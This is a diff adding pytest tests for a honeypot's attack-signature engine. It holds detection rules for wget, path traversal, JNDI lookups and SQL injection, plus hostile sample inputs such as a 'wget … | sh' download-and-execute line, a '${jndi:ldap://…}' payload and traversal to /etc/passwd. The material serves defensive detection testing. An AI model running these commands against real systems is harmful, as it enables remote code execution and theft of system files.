@@ -0,0 +1,87 @@
+import pytest
+from model import signatures
+from model.signatures import SignatureEngine, SignatureError
+from model.trap_manager import TrapManager
+from model.ssh_trap import SshTrap
+from benchmarks.signatures import adversarial_inputs, bench_signatures
+
+RULES = [
+    {"id": "lit", "literal": "wget", "severity": "low"},
+    {"id": "many", "literal": ["../", "..\\"], "regex": r"(\.\./|\.\.\\){2,}", "severity": "high"},
+    {"id": "rx.jndi", "regex": r"\$\{jndi:(ldap|rmi)", "severity": "critical", "tags": ["rce"]},
+    {"id": "rx.union", "regex": r"union\s+select", "severity": "medium"},
+    {"id": "rx.backref", "regex": r"(['\"]).*\1\s*or", "severity": "medium"},
+    {"id": "ftp.only", "literal": "site cpfr", "severity": "critical", "traps": ["ftp"]},
+]
+
+
+@pytest.mark.parametrize("native", [False, True])
+def test_literals_prefilters_and_combined_regex(native):
+    if native and signatures.ahocorasick is None:
+        pytest.skip("pyahocorasick not installed")
+    engine = SignatureEngine(RULES, native=native)
+    ids = lambda text, trap=None: [r.id for r in engine.scan(text, trap)]
+
+    assert ids("cd /tmp; WGET http://x/a.sh") == ["lit"]
+    assert ids("GET /../etc") == []                       # literal נמצא, ה-regex לא
+    assert ids("GET /..\\..\\win.ini") == ["many"]
+    # שתי חלופות של ה-regex המאוחד באותו קלט
+    assert ids("?q=${jndi:ldap://a} union select 1") == ["rx.jndi", "rx.union"]
+    assert ids("'a' or 1=1") == ["rx.backref"]
+    # URL-decoding
+    assert ids("GET /%2e%2e%2f%2e%2e%2fetc%2fpasswd") == ["many"]
+    assert ids("SITE CPFR /etc/passwd", "ftp") == ["ftp.only"]
+    assert ids("SITE CPFR /etc/passwd", "http") == []
+
+    m = engine.classify("ssh", {"cmd": "wget x; ${jndi:rmi://h}"})
+    assert m.rules == ["lit", "rx.jndi"] and m.severity == "critical" and m.tags == ["rce"]
+    assert engine.classify("ssh", "ls -la") is None
+
+
+class _CountingRegex:
+    def __init__(self, compiled):
+        self.compiled = compiled
+        self.calls = 0
+
+    def search(self, text):
+        self.calls += 1
+        return self.compiled.search(text)
+
+
+def test_prefiltered_regex_runs_once_per_text():
+    engine = SignatureEngine(RULES, native=False)
+    rule = engine.rules[1]
+    rule._compiled = counting = _CountingRegex(rule._compiled)
+    assert engine.scan("../x " * 2000) == []
+    assert counting.calls == 1
+    # כל הקלטים העוינים נשארים לינאריים מול ה-ruleset המלא
+    shipped = signatures.load()
+    for text in adversarial_inputs():
+        shipped.scan(text)
+
+
+def test_bad_rules_are_rejected():
+    with pytest.raises(SignatureError):
+        SignatureEngine([{"id": "x"}])
+    with pytest.raises(SignatureError):
+        SignatureEngine([{"id": "x", "regex": "("}])
+    with pytest.raises(SignatureError):
+        SignatureEngine([{"id": "x", "literal": "a"}, {"id": "x", "literal": "b"}])
+
+
+def test_shipped_ruleset_and_run_trap_attach_signatures():
+    engine = signatures.load()
+    assert len(engine) > 40
+    manager = TrapManager()
+    manager.add_trap("ssh", SshTrap())
+    event = manager.run_trap("ssh", "cd /tmp; wget http://1.2.3.4/x.sh | sh", "10.1.2.3")
+    assert "shell.download_exec" in event["signatures"]["rules"]
+    assert event["signatures"]["severity"] == "critical"
+    assert "signatures" not in manager.run_trap("ssh", "ls -la", "10.1.2.3")
+
+
+def test_bench_signatures_smoke():
+    out = bench_signatures((200,), inputs=300, budget=1.0)
+    row = out["200"]
+    assert row["rules"] == 200 and row["engine"]["n"] == 300 and row["naive"]["n"] == 300
+    assert 0 < row["hit_ratio"] < 1 and row["adversarial"]["n"] > 0